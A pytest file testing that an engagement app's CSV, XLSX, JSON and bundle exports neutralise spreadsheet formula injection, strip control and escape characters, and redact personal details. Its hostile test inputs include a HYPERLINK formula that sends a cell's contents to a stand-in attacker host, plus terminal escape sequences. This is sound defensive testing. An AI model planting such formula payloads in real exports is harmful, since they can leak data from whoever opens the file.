"""Exports are safe to open and carry every typed text redacted."""

from __future__ import annotations

import csv
import json
import sqlite3

import pytest
from openpyxl import load_workbook

from engage.cells import csv_value, terminal_text
from engage.db import open_db
from engage.db.consultations import ConsultationFields, add_consultation
from engage.db.contacts import ContactFields, add_contact
from engage.db.partners import add_partner
from engage.db.submissions import add_submission
from engage.exports import (
    PARTNER_COLUMNS,
    SUBMISSION_COLUMNS,
    partner_rows,
    submission_rows,
    write_rows,
)
from engage.offices import export_bundle
from engage.services.imports import ImportOptions, import_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1 more thing",
    "-2 stars for the wait",
    "@SUM(A1:A9)",
]
# Typed and imported text is trimmed, but a merged database may hold these.
WHITESPACE_STARTS = ["\tTabbed start", "\rCarriage start"]


@pytest.fixture
def office(tmp_path):
    db = open_db(tmp_path / "office.db")
    consultation = add_consultation(db, ConsultationFields(title="Hours review"))
    for text in HOSTILE:
        add_submission(db, consultation["id"], text)
    add_submission(db, consultation["id"], "A NUL\x00 here and an escape \x1b[31mred\x1b[0m")
    yield {"db": db, "consultation": consultation["id"]}
    db.close()


def test_xlsx_export_writes_formula_like_text_as_string_cells(office, tmp_path):
    out = tmp_path / "feedback.xlsx"
    rows = submission_rows(office["db"])
    write_rows(rows, list(SUBMISSION_COLUMNS), out, "xlsx")
    sheet = load_workbook(out).active
    column = [c.value for c in sheet[1]].index("text_redacted") + 1
    cells = {c.value: c.data_type for c in sheet.iter_cols(column, column, 2).__next__()}
    for text in HOSTILE:
        assert cells[text] == "s", text
    assert "f" not in cells.values()


def test_cells_starting_with_a_tab_or_carriage_return_are_text_too(tmp_path):
    rows = [{"text": text} for text in WHITESPACE_STARTS]
    write_rows(rows, ["text"], tmp_path / "odd.xlsx", "xlsx")
    cells = [c for c in load_workbook(tmp_path / "odd.xlsx").active.iter_rows(min_row=2)]
    # (openpyxl reads a carriage return back as a line break, as XML does)
    assert [(c[0].value.lstrip("\r\n\t"), c[0].data_type) for c in cells] == [
        ("Tabbed start", "s"),
        ("Carriage start", "s"),
    ]
    write_rows(rows, ["text"], tmp_path / "odd.csv", "csv")
    with (tmp_path / "odd.csv").open(newline="", encoding="utf-8") as handle:
        texts = [row["text"] for row in csv.DictReader(handle)]
    assert texts == ["'\tTabbed start", "'\rCarriage start"]


def test_a_submission_holding_a_nul_exports_to_xlsx_without_the_control_characters(
    office, tmp_path
):
    out = tmp_path / "feedback.xlsx"
    write_rows(submission_rows(office["db"]), list(SUBMISSION_COLUMNS), out, "xlsx")
    texts = [row[0] for row in load_workbook(out).active.iter_rows(values_only=True)]
    assert texts  # the export did not fail
    values = [v for row in load_workbook(out).active.iter_rows(values_only=True) for v in row]
    escaped = [v for v in values if isinstance(v, str) and "escape" in v]
    assert escaped == ["A NUL here and an escape [31mred[0m"]


def test_csv_export_prefixes_formula_starts_with_an_apostrophe(office, tmp_path):
    out = tmp_path / "feedback.csv"
    write_rows(submission_rows(office["db"]), list(SUBMISSION_COLUMNS), out, "csv")
    with out.open(newline="", encoding="utf-8") as handle:
        texts = [row["text_redacted"] for row in csv.DictReader(handle)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in texts
    assert "'+1 more thing" in texts
    assert "'-2 stars for the wait" in texts
    assert "'@SUM(A1:A9)" in texts
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
    assert all("\x00" not in text and "\x1b" not in text for text in texts)


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("plain", "plain"), ("a=b", "a=b"), (5, 5), (-3, -3), (None, None)],
)
def test_only_text_that_would_start_a_formula_is_prefixed(value, cell):
    assert csv_value(value) == cell


def test_json_export_holds_no_control_characters(office, tmp_path):
    out = tmp_path / "feedback.json"
    write_rows(submission_rows(office["db"]), list(SUBMISSION_COLUMNS), out, "json")
    raw = out.read_text(encoding="utf-8")
    assert "\\u0000" not in raw and "\\u001b" not in raw
    assert len(json.loads(raw)) == 5


def test_terminal_text_keeps_lines_and_drops_escape_sequences():
    assert terminal_text("ok\x1b[2J\x9b31m\r\nnext\tcol\u202eevil") == "ok[2J31m\nnext\tcolevil"


# --- 2. every free-text field that leaves is redacted ------------------------------------


@pytest.fixture
def typed(tmp_path):
    db = open_db(tmp_path / "typed.db")
    consultation = add_consultation(db, ConsultationFields(title="Hours review"))
    partner = add_partner(
        db,
        name="Timmins Seniors",
        kind="community",
        sharing_consent="provincial",
        notes="Ask for Dr. Patel at 705-555-0177, marie at example dot org",
    )
    add_contact(
        db,
        partner["id"],
        ContactFields(name="Marie Tremblay", email="marie@example.org", consent_to_share=True),
    )
    survey = tmp_path / "survey.csv"
    survey.write_text(
        "Organisation,Comments\n"
        '"Smith Plumbing, call 705-555-0188",Marie Tremblay helped me a lot\n',
        encoding="utf-8",
    )
    import_file(
        db, survey, consultation["id"], ImportOptions(overrides={"Organisation": "partner"})
    )
    yield {"db": db, "consultation": consultation["id"], "partner": partner}
    db.close()


PERSONAL = (
    "705-555-0177",
    "705-555-0188",
    "marie at example dot org",
    "Patel",
    "Marie Tremblay helped",
)


def test_csv_xlsx_and_json_exports_carry_typed_text_redacted(typed, tmp_path):
    for fmt in ("csv", "xlsx", "json"):
        partners = tmp_path / f"partners.{fmt}"
        write_rows(partner_rows(typed["db"]), list(PARTNER_COLUMNS), partners, fmt)
        feedback = tmp_path / f"feedback.{fmt}"
        write_rows(submission_rows(typed["db"]), list(SUBMISSION_COLUMNS), feedback, fmt)
        for path in (partners, feedback):
            text = _readable(path)
            for detail in PERSONAL:
                assert detail not in text, (fmt, path.name, detail)
    assert "[PHONE]" in _readable(tmp_path / "feedback.csv")


def _readable(path):
    if path.suffix == ".xlsx":
        sheet = load_workbook(path).active
        return "\n".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row)
    return path.read_text(encoding="utf-8")


def test_a_bundle_carries_interaction_summaries_notes_and_typed_names_redacted(typed, tmp_path):
    from engage.db.interactions import InteractionFields, add_interaction
    from engage.db.sessions import SessionFields, log_session

    db = typed["db"]
    add_interaction(
        db,
        typed["partner"]["id"],
        InteractionFields(
            occurred_on="2026-02-20",
            kind="call",
            summary="call his cell 705-555-0105",
            follow_up_owner="M. Lalonde",
        ),
    )
    log_session(
        db,
        typed["consultation"],
        SessionFields(
            held_on="2026-03-01",
            kind="workshop",
            channel="in_person",
            location="125 main street",
            facilitator="Jean Tremblay",
            accessibility_notes="Ramp; ask for Mrs Gagnon at 705-555-0166",
        ),
    )
    out = tmp_path / "b.engage"
    export_bundle(db, out)
    conn = sqlite3.connect(out)
    summary, owner = conn.execute("SELECT summary, follow_up_owner FROM interactions").fetchone()
    location, facilitator, notes = conn.execute(
        "SELECT location, facilitator, accessibility_notes FROM sessions"
    ).fetchone()
    organisation = conn.execute("SELECT organisation FROM submissions").fetchone()[0]
    partner_notes = conn.execute("SELECT notes FROM partners").fetchone()[0]
    conn.close()
    assert summary == "call his cell [PHONE]"
    assert (owner, facilitator) == ("[NAME]", "[NAME]")
    assert location == "[ADDRESS]"
    assert "705-555-0166" not in notes and "Gagnon" not in notes
    assert "705-555-0188" not in organisation
    for detail in PERSONAL[:4]:
        assert detail not in partner_notes
    assert b"705-555-01" not in out.read_bytes()
